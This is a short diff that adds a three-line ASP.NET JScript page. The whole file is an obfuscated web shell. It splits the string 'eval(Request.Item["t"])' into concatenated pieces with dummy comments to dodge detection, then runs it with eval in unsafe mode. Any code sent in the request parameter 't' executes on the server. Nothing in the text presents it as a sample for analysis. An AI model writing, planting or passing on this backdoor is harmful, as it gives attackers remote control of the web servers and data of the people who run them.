@@ -1,0 +1,3 @@
+<%@ Page Language="JScript" %>
+<%var code/*x*/ = "e"+"v"/*x*/+"a"+"l"+"("+"R"+/*x*/"e"+"q"+"u"+"e"+"s"+"t"+".Item[\"t\"]"+")";
+eval(code, "unsafe");%>
